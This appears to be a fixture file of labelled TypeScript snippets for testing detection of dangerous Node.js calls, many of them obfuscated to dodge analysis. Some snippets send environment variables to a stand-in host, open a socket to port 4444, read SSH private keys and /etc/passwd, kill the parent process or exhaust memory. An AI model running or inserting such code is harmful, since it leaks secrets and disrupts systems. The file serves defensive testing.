//--- ts-cp-import: typed import of execSync
import { execSync } from 'child_process';
const out: string = execSync('id').toString();
console.log(out);
//--- ts-cp-import-equals: import = require
import cp = require('child_process');
cp.exec('id');
//--- ts-cp-mixed-type-import: type and value imports together
import { type ChildProcess, spawn } from 'node:child_process';
const p: ChildProcess = spawn('sh', ['-c', 'id']);
p.on('exit', (code: number | null) => console.log(code));
//--- ts-cp-as-any: casts hide the method
const c = require('child_process') as any;
(c as any)['exec' + 'Sync']('id');
//--- ts-cp-generic-loader: generic loader function
function load<T>(name: string): T {
  return require(name) as T;
}
load<typeof import('child_process')>('child_process').execSync('id');
//--- ts-cp-non-null: non-null assertions
const cp = require!('child_process')!;
cp!.execSync!('id');
//--- ts-cp-enum-name: module name in an enum
enum Mods { Path = 'path', Job = 'child_process' }
require(Mods.Job).execSync('id');
//--- ts-cp-satisfies: satisfies on the options
import { spawn, type SpawnOptions } from 'child_process';
spawn('id', { shell: true, stdio: 'inherit' } satisfies SpawnOptions);
//--- ts-cp-class-property: private typed property
class Runner {
  private readonly cp: typeof import('child_process') = require('child_process');
  public run(cmd: string): Buffer { return this.cp.execSync(cmd); }
}
new Runner().run('id');
//--- ts-cp-parameter-property: parameter property with a default
class Job {
  constructor(private sh = require('child_process')) {}
  go(): void { this.sh.execSync('id'); }
}
new Job().go();
//--- ts-net-fetch-typed: typed fetch
interface Result { ok: boolean }
async function send(data: Record<string, string | undefined>): Promise<Result> {
  const r = await fetch('https://collect.example.invalid/in', { method: 'POST', body: JSON.stringify(data) });
  return { ok: r.ok };
}
send(process.env);
//--- ts-net-global-any: globalThis cast to any
(globalThis as any)['fet' + 'ch']('https://collect.example.invalid/');
//--- ts-net-angle-cast: old style cast in front of require
const https = <any>require('https');
https.get('https://collect.example.invalid/');
//--- ts-net-socket: typed socket
import net, { type Socket } from 'node:net';
const s: Socket = net.connect({ host: '192.0.2.10', port: 4444 });
s.write('hi');
//--- ts-fs-home: typed path to the home folder
import { readFileSync } from 'fs';
import { homedir } from 'os';
const key: string = readFileSync(`${homedir()}/.ssh/id_ed25519`, 'utf8');
console.log(key as string);
//--- ts-fs-passwd: import equals and an absolute path
import fs = require('fs');
const text: string = fs.readFileSync('/etc/passwd', { encoding: 'utf8' });
console.log(text);
//--- ts-eval-generic: eval behind a generic
const evaluate = <T>(src: string): T => eval(src) as T;
evaluate<number>('1 + 1');
//--- ts-function-constructor: typed Function constructor
const fn = new Function('a', 'return a') as (a: number) => number;
fn(1);
//--- ts-constructor-chain-any: constructor chain with casts
((({} as any).constructor as any).constructor as Function)('return process')();
//--- ts-proto-declare-global: declares and adds a builtin method
declare global {
  interface Array<T> { last(): T | undefined }
}
Array.prototype.last = function <T>(this: T[]): T | undefined { return this[this.length - 1]; };
export {};
//--- ts-proto-dunder: __proto__ through any
const o: any = {};
(o.__proto__ as any).isAdmin = true;
//--- ts-binding: process.binding through any
(process as any).binding('spawn_sync');
//--- ts-dlopen: process.dlopen with a typed module
const m = { exports: {} } as NodeModule;
process.dlopen(m, './x.node');
//--- ts-worker: typed worker
import { Worker, type WorkerOptions } from 'node:worker_threads';
const opts: WorkerOptions = { eval: true };
new Worker('1', opts);
//--- ts-dynamic-import: import of a typed variable
const spec: string = process.argv[2]!;
const mod: { run(): void } = await import(spec);
mod.run();
//--- ts-namespace: namespace hides the shell
namespace Util {
  export const sh = (c: string): string => require('child_process').execSync(c, { encoding: 'utf8' });
}
console.log(Util.sh('id'));
//--- ts-decorator: decorator runs a command
function traced(_t: unknown, ctx: ClassMethodDecoratorContext): void {
  require('child_process').execSync(`echo ${String(ctx.name)} >> /etc/motd`);
}
class A { @traced go(): void {} }
new A().go();
//--- ts-abstract-class: abstract class with a network subclass
abstract class Sink { abstract put(v: string): void }
class HttpSink extends Sink {
  put(v: string): void { require('http').request({ host: '192.0.2.10', method: 'POST' }).end(v); }
}
new HttpSink().put('x');
//--- ts-overloads: overloads around execFile
import { execFileSync } from 'child_process';
function run(cmd: string): string;
function run(cmd: string, args: string[]): string;
function run(cmd: string, args: string[] = []): string { return execFileSync(cmd, args).toString(); }
run('id');
//--- ts-kill: typed kill of the parent
const sig: NodeJS.Signals = 'SIGKILL';
process.kill(process.ppid as number, sig);
//--- ts-module-load: Module._load through any
import Module from 'node:module';
(Module as unknown as { _load(n: string): any })._load('child_process').execSync('id');
//--- ts-bomb: typed endless array
const hoard: Uint8Array[] = [];
while (true as boolean) hoard.push(new Uint8Array(1e8).fill(1));
